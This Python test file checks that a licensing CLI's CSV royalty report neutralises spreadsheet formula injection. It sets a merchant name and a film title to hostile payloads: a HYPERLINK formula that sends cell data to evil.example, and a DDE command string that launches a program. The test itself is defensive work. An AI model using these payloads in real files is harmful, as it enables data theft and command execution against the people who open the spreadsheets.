"""Hostile review of `tiein report … --format csv` (SPEC §11): a merchant chooses its name
and staff its films' titles; a cell starting with =, +, - or @ would run as a formula in the
spreadsheet the report is opened in. The console's CSVs quote such cells (storefront/staff/
tables.py); the CLI's must too, while amounts (negative ones included) stay numbers."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from catalog.models import Film
from licensing.ledger import SaleLine, post_sales
from licensing.models import Channel, Merchant
from tests import factory as F
from tests.licensing.test_cli import run  # noqa: F401  (the fixture)

EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_FILM = "@SUM(1+1)*cmd|' /C calc'!A0"


async def test_formula_names_are_text_in_the_cli_csv(db, run) -> None:  # noqa: F811
    async with db.session() as session:
        agreement, tee = await F.licensing_world(session, rate_bps=1000)
        await session.execute(
            update(Merchant).where(Merchant.id == agreement.merchant_id).values(name=EVIL_MERCHANT)
        )
        await session.execute(update(Film).where(Film.id == tee.film_id).values(title=EVIL_FILM))
        when = F.at("2026-02-10T10:00")
        await post_sales(
            session, [SaleLine("o:1", tee.id, 2, 5000, Channel.STOREFRONT, "US", when)], now=when
        )
    code, out, _ = await run(
        "report",
        "royalties",
        "--period",
        "2026-Q1",
        "--group-by",
        "merchant",
        "film",
        "--format",
        "csv",
    )
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["merchant"] == "'" + EVIL_MERCHANT
    assert row["film"] == "'" + EVIL_FILM
    assert (row["net"], row["royalty"]) == ("50.00", "5.00")
